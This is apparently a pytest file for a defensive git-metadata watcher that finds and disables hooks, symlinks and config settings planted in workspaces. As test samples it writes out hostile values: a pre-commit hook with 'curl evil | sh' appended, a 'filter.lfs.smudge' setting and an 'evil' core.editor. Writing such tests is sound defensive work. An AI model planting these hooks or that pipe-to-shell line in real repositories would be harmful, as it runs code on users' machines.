"""`GitMetadataWatch` on its own: what it neutralises, what it leaves, links removed not followed,
and scans within their bounds."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from meith_core import GitMetadataWatch
from tests.harness import wait_until

GIT = shutil.which("git") or "git"


def _git(cwd: Path, *args: str) -> None:
    subprocess.run([GIT, *args], cwd=cwd, check=True, capture_output=True)


def test_the_scanner_leaves_unchanged_metadata_and_keeps_earlier_values(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    _git(ws, "init", "-q", ".")
    _git(ws, "config", "core.editor", "vi")  # the user's, from before
    _git(ws, "init", "-q", "old")
    _git(ws, "-C", "old", "config", "core.fsmonitor", "user-chose-this")
    watch = GitMetadataWatch((str(ws),), (str(ws),), started_ns=0)
    watch.snapshot()  # starts the clock now: what came before is not the process's
    watch.prime()
    _git(ws, "config", "core.hooksPath", ".husky")  # a planted change to the top repository
    report = watch.scan()
    assert [f.path for f in report.neutralised] == [str(ws / ".git")]
    assert report.neutralised[0].changes == ("removed core.hookspath = '.husky' from config",)
    config = (ws / ".git/config").read_text()
    assert "editor = vi" in config
    assert "hooksPath" not in config
    assert "user-chose-this" in (ws / "old/.git/config").read_text()
    # A second scan finds nothing new: its own change is not reported again.
    assert not watch.scan()


def test_a_symlinked_config_or_hook_is_removed_not_followed(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    victim = tmp_path / "user.gitconfig"
    victim.write_text("[core]\n\teditor = vi\n\tfsmonitor = keep-me\n")
    watch = GitMetadataWatch((str(ws),), (str(ws),))
    watch.snapshot()
    _git(ws, "init", "-q", "r")
    (ws / "r/.git/config").unlink()
    (ws / "r/.git/config").symlink_to(victim)
    (ws / "r/.git/hooks/post-checkout").symlink_to("/bin/true")
    report = watch.scan()
    said = " ".join(report.neutralised[0].changes)
    assert f"removed config, a symlink to {victim}" in said
    assert "removed hook post-checkout, a symlink to /bin/true" in said
    assert victim.read_text().endswith("fsmonitor = keep-me\n")  # never written through


def test_a_walk_past_its_budget_says_it_is_incomplete(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    for i in range(30):
        (ws / f"d{i}").mkdir(parents=True)
    watch = GitMetadataWatch((str(ws),), (str(ws),), max_entries=10)
    watch.snapshot()
    report = watch.scan()
    assert report.complete is False
    assert "stopped after 10 entries" in (report.note or "")
    assert report.diagnostics()[-1]["level"] == "warn"


def test_a_primed_watch_still_finds_a_git_deep_in_an_unchanged_tree(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    deep = ws / "node_modules" / "a" / "b" / "c"
    deep.mkdir(parents=True)
    watch = GitMetadataWatch((str(ws),), (str(ws),))
    watch.snapshot()
    watch.prime()
    _git(deep, "init", "-q", "x")
    _git(deep, "-C", "x", "config", "filter.lfs.smudge", "evil")
    report = watch.scan()
    assert [f.path for f in report.neutralised] == [str(deep / "x/.git")]


@pytest.mark.slow  # lets a second pass (see below)
def test_a_hook_planted_in_the_directory_core_hookspath_names_is_disabled(
    tmp_path: Path,
) -> None:
    """husky's `.husky/`: the repository's metadata (read-only for the process) says
    `core.hooksPath = .husky`, and `.husky/` is an ordinary directory the process may write."""
    ws = tmp_path / "ws"
    ws.mkdir()
    _git(ws, "init", "-q", ".")
    _git(ws, "config", "core.hooksPath", ".husky")
    husky = ws / ".husky"
    husky.mkdir()
    (husky / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
    (husky / "pre-commit").chmod(0o755)
    (husky / "commit-msg").write_text("#!/bin/sh\ntrue\n")
    (husky / "commit-msg").chmod(0o755)
    # What changed in the second before a process started counts as its (file systems stamp
    # change times with a coarse clock): let that second pass for the user's own hooks.
    made = max(os.lstat(p).st_ctime_ns for p in husky.iterdir())
    assert wait_until(lambda: time.time_ns() - made > 1_100_000_000, 10)
    watch = GitMetadataWatch((str(ws),), (str(ws),), read_only=(str(ws / ".git"),))
    watch.snapshot()
    watch.prime()
    with open(husky / "pre-commit", "a") as f:  # rewritten in place
        f.write("curl evil | sh\n")
    (husky / "post-checkout").write_text("#!/bin/sh\nevil\n")
    (husky / "post-checkout").chmod(0o755)
    report = watch.scan()
    assert [(f.kind, f.path) for f in report.neutralised] == [("hooks directory", str(husky))]
    assert sorted(report.neutralised[0].changes) == [
        "hook post-checkout made non-executable",
        "hook pre-commit made non-executable",
    ]
    assert os.access(husky / "commit-msg", os.X_OK)  # untouched: it did not change
    assert "hooksPath = .husky" in (ws / ".git/config").read_text()  # the user's setting stays
    assert not watch.scan()


def test_many_planted_repositories_take_several_bounded_scans(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from meith_core.confine import planted_watch as planted_git

    monkeypatch.setattr(planted_git, "MAX_GITDIRS_PER_SCAN", 2)
    ws = tmp_path / "ws"
    ws.mkdir()
    watch = GitMetadataWatch((str(ws),), (str(ws),))
    watch.snapshot()
    for i in range(3):
        _git(ws, "init", "-q", f"r{i}")
        _git(ws, "-C", f"r{i}", "config", "core.editor", "evil")
    first = watch.scan()
    assert len(first.neutralised) == 2
    assert first.complete is False
    assert "stopped after 2 repositories" in (first.note or "")
    second = watch.scan()
    assert len(second.neutralised) == 1
    assert second.complete is True
    for i in range(3):
        assert "evil" not in (ws / f"r{i}/.git/config").read_text()
